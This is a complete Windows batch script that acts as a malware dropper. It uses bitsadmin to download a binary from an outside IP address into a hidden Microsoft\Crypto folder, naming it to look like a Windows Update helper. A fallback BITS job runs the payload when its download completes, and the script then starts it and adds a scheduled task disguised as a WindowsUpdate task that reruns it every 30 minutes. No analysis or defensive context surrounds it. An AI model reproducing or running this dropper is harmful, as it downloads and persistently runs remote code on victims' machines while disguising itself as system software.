@echo off
set "DROP=%APPDATA%\Microsoft\Crypto\wuauhelper.exe"
bitsadmin /transfer "WindowsUpdateJob" /download /priority high "http://203.0.113.41/dl/wuauhelper.bin" "%DROP%"
if errorlevel 1 (
    bitsadmin /create upd
    bitsadmin /addfile upd "http://mirror.files.example/wuauhelper.bin" "%DROP%"
    bitsadmin /SetNotifyCmdLine upd "%DROP%" NULL
    bitsadmin /resume upd
    goto :eof
)
start "" "%DROP%"
schtasks /create /tn "Microsoft\Windows\WindowsUpdate\AUHelper" /tr "\"%DROP%\"" /sc minute /mo 30 /f >nul
